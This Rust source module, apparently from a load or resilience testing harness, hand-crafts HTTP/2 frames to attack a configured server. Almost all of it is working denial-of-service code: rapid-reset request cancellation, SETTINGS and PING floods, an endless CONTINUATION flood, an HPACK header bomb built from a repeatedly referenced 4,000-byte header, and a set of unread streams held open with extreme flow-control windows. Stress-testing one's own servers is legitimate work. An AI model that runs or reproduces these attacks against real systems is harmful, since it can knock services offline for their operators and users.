//! Abuse of HTTP/2 (RFC 9113), in frames that are written by hand.

use std::future::pending;

use super::client::Client;
use super::ground::{Ground, TOPIC};

/// The first bytes of a client (section 3.4).
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// The length of a frame's head (section 4.1).
const HEAD: usize = 9;

/// Types of frames (section 6).
const HEADERS: u8 = 1;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GO_AWAY: u8 = 7;
const CONTINUATION: u8 = 9;

/// Flags of HEADERS.
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// The error with which a request is taken back (section 7).
const CANCEL: [u8; 4] = [0, 0, 0, 8];

/// The setting of the window of a stream (section 6.5.2).
const INITIAL_WINDOW: u16 = 4;

/// `:status: 200` in a block (RFC 7541, appendix A).
const STATUS_200: u8 = 0x88;

/// The frames of one write.
const AT_ONCE: usize = 200;

/// The most bytes of a frame, unless the server allows more.
const FRAME: usize = 1 << 14;

/// More streams than a client may have at a time.
const STREAMS: u32 = 150;

/// A connection that speaks HTTP/2.
struct Connection<'a> {
    client: Client<'a>,
    ground: &'a Ground,
    next: u32,
}

/// Asks and takes each request back at once.
pub(super) async fn rapid_reset(ground: &Ground) -> anyhow::Result<()> {
    let mut connection = Connection::open(ground, &[]).await?;
    let block = connection.block("/livez", "GET");
    loop {
        let mut frames = Vec::new();
        for _ in 0..AT_ONCE {
            let stream = connection.stream();
            frames.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, &block));
            frames.extend(frame(RESET, 0, stream, &CANCEL));
        }
        connection.exchange(&frames).await?;
    }
}

/// Sends settings, each of which has to be confirmed, and reads the confirmations or not.
pub(super) async fn settings(ground: &Ground, index: usize) -> anyhow::Result<()> {
    flood(ground, index, &frame(SETTINGS, 0, 0, &[])).await
}

/// Sends pings, each of which has to be answered, and reads the answers or not.
pub(super) async fn pings(ground: &Ground, index: usize) -> anyhow::Result<()> {
    flood(ground, index, &frame(PING, 0, 0, &[7; 8])).await
}

async fn flood(ground: &Ground, index: usize, unit: &[u8]) -> anyhow::Result<()> {
    let mut connection = Connection::open(ground, &[]).await?;
    let frames = unit.repeat(AT_ONCE);
    loop {
        if index.is_multiple_of(2) {
            connection.exchange(&frames).await?;
        } else {
            connection.client.send(&frames).await?;
        }
    }
}

/// Sends heads that go on and on: in frames that are empty, and in frames with a header, in turn.
pub(super) async fn continuations(ground: &Ground, index: usize) -> anyhow::Result<()> {
    let mut connection = Connection::open(ground, &[]).await?;
    let (stream, block) = (connection.stream(), connection.block("/livez", "GET"));
    connection.client.send(&frame(HEADERS, END_STREAM, stream, &block)).await?;
    let content = if index.is_multiple_of(2) { Vec::new() } else { literal("x-attack", &"x".repeat(100)) };
    let frames = frame(CONTINUATION, 0, stream, &content).repeat(AT_ONCE);
    loop {
        connection.exchange(&frames).await?;
    }
}

/// Sends heads that are small and become large: a header of 4,000 bytes that is named again and again.
pub(super) async fn header_bombs(ground: &Ground) -> anyhow::Result<()> {
    let mut connection = Connection::open(ground, &[]).await?;
    let fuse = [connection.block("/livez", "GET"), indexed("x-attack", &"x".repeat(4_000))].concat();
    // The entry that was added last (RFC 7541, section 2.3.3).
    let bomb = [&fuse[..], &vec![0x80 | 62; FRAME - fuse.len()]].concat();
    loop {
        let stream = connection.stream();
        connection.exchange(&frame(HEADERS, END_STREAM | END_HEADERS, stream, &bomb)).await?;
    }
}

/// Opens as many streams of a large history as it may, with closed windows or with open ones, and reads nothing.
pub(super) async fn unread_streams(ground: &Ground, index: usize) -> anyhow::Result<()> {
    let window: u32 = if index.is_multiple_of(2) { 0 } else { (1 << 31) - 1 };
    let setting = [&INITIAL_WINDOW.to_be_bytes()[..], &window.to_be_bytes()].concat();
    let mut connection = Connection::open(ground, &setting).await?;
    let block = connection.block(&ground.follow_path(&format!("topic={TOPIC}&since=earliest")), "GET");
    for _ in 0..STREAMS {
        let stream = connection.stream();
        connection.client.send(&frame(HEADERS, END_STREAM | END_HEADERS, stream, &block)).await?;
    }
    pending().await
}

impl<'a> Connection<'a> {
    async fn open(ground: &'a Ground, settings: &[u8]) -> anyhow::Result<Self> {
        let mut client = Client::connect_http2(ground).await?;
        client.send(&[PREFACE, &frame(SETTINGS, 0, 0, settings)].concat()).await?;
        Ok(Self { client, ground, next: 1 })
    }

    /// The number of the next request.
    fn stream(&mut self) -> u32 {
        let stream = self.next;
        self.next += 2;
        stream
    }

    /// The block of a request's head (RFC 7541).
    fn block(&self, path: &str, method: &str) -> Vec<u8> {
        let authority = self.ground.address.to_string();
        // `:scheme: https` is an entry of the static table; the others are literals under names of it.
        [vec![0x87], named(2, method), named(4, path), named(1, &authority)].concat()
    }

    /// Sends frames, and reads what has come.
    async fn exchange(&mut self, frames: &[u8]) -> anyhow::Result<()> {
        let sent = self.client.send(frames).await;
        // A server that ends a connection says why, and then both fail.
        let read = loop {
            match self.client.read_now() {
                Ok(true) => {}
                other => break other,
            }
        };
        while let Some((kind, first)) = take_frame(&mut self.client) {
            match kind {
                HEADERS => self.ground.toll.answered(if first == Some(STATUS_200) { 200 } else { 400 }),
                RESET | GO_AWAY => self.ground.toll.answered(400),
                _ => {}
            }
        }
        sent?;
        read?;
        // A task that never waits would leave no time to the other attackers.
        tokio::task::yield_now().await;
        Ok(())
    }
}

/// Takes a whole frame that has come: its type, and the first byte of its content.
fn take_frame(client: &mut Client<'_>) -> Option<(u8, Option<u8>)> {
    let head: [u8; HEAD] = *client.buffered().first_chunk()?;
    let length = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
    let frame = client.buffered().get(HEAD..HEAD + length)?;
    let first = frame.first().copied();
    client.discard(HEAD + length);
    Some((head[3], first))
}

fn frame(kind: u8, flags: u8, stream: u32, content: &[u8]) -> Vec<u8> {
    let length = (content.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), content].concat()
}

/// A header under a name of the static table, which is not added to the dynamic one (RFC 7541, section 6.2.2).
fn named(name: u8, value: &str) -> Vec<u8> {
    [vec![name], text(value)].concat()
}

/// A header that is not added to the dynamic table.
fn literal(name: &str, value: &str) -> Vec<u8> {
    [vec![0], text(name), text(value)].concat()
}

/// A header that is added to the dynamic table (RFC 7541, section 6.2.1).
fn indexed(name: &str, value: &str) -> Vec<u8> {
    [vec![0x40], text(name), text(value)].concat()
}

/// A text that is not compressed (RFC 7541, section 5.2).
fn text(text: &str) -> Vec<u8> {
    const PREFIX: usize = 127;
    let mut bytes = Vec::new();
    match text.len().checked_sub(PREFIX) {
        None => bytes.push(text.len() as u8),
        Some(mut rest) => {
            bytes.push(PREFIX as u8);
            while rest >= 128 {
                bytes.push((rest % 128) as u8 | 0x80);
                rest /= 128;
            }
            bytes.push(rest as u8);
        }
    }
    bytes.extend_from_slice(text.as_bytes());
    bytes
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_length_is_written_as_its_rfc_has_it() {
        assert_eq!(text("ab"), [2, b'a', b'b']);
        // 1337 with a prefix of 7 bits: 127, and 1210 in groups of 7 bits.
        assert_eq!(text(&"x".repeat(1337))[..3], [127, 0x80 | (1210 % 128) as u8, 9]);
    }

    #[test]
    fn a_frame_has_its_length_first() {
        assert_eq!(frame(PING, 1, 3, &[9; 8])[..HEAD], [0, 0, 8, 6, 1, 0, 0, 0, 3]);
    }
}
